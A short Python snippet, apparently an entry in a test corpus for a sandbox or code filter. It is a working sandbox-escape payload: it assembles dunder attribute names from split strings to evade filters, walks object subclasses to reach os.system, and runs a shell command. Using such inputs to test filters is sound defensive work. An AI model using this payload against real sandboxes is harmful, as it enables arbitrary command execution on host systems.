# corpus: dunders hidden in concatenated strings passed to getattr
obj = ()
cls = getattr(obj, "__cla" + "ss__")
base = getattr(cls, "__ba" + "se__")
subs = getattr(base, "__subcl" + "asses__")()
wrap = [c for c in subs if c.__name__ == "_wrap_close"][0]
getattr(getattr(wrap, "__in" + "it__"), "__glo" + "bals__")["system"]("id")
